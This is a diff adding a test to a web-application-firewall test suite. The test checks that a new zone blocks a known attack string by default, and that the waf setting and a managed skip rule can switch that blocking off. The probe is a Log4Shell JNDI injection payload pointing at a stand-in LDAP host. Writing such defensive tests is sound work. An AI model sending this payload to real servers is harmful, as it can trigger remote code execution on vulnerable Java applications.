@@ -117,3 +117,15 @@ scene('exclusions are objects of the zone; events say what was found', async s =
   ok(saved.status === 0 && /excluded: rule 911100/.test(saved.out), JSON.stringify(saved))
   eq([(await get('/editor?text=evil')).status, (await get('/editor?title=evil')).status], [200, 403])
 })
+
+scene('known breaches are refused in a new zone, until its setting waf or a managed rule says otherwise', async s => {
+  const { api, base, managed, get } = await nodeWithZone(s)
+  const probe = async () => (await get('/?q=' + encodeURIComponent('${jndi:ldap://x.test/a}'))).status
+  eq([await probe(), (await get('/?q=ordinary')).status, (await api.get(`${base}/settings/waf`)).value], [403, 200, 'on'])
+  await api.must('PATCH', `${base}/settings/waf`, { value: 'off' })
+  eq(await probe(), 200)
+  await api.must('PATCH', `${base}/settings/waf`, { value: 'on' })
+  eq(await probe(), 403)
+  await managed([{ action: 'skip', expression: 'http.request.uri.path eq "/"', action_parameters: { ruleset: 'current' } }])
+  eq(await probe(), 200)
+})
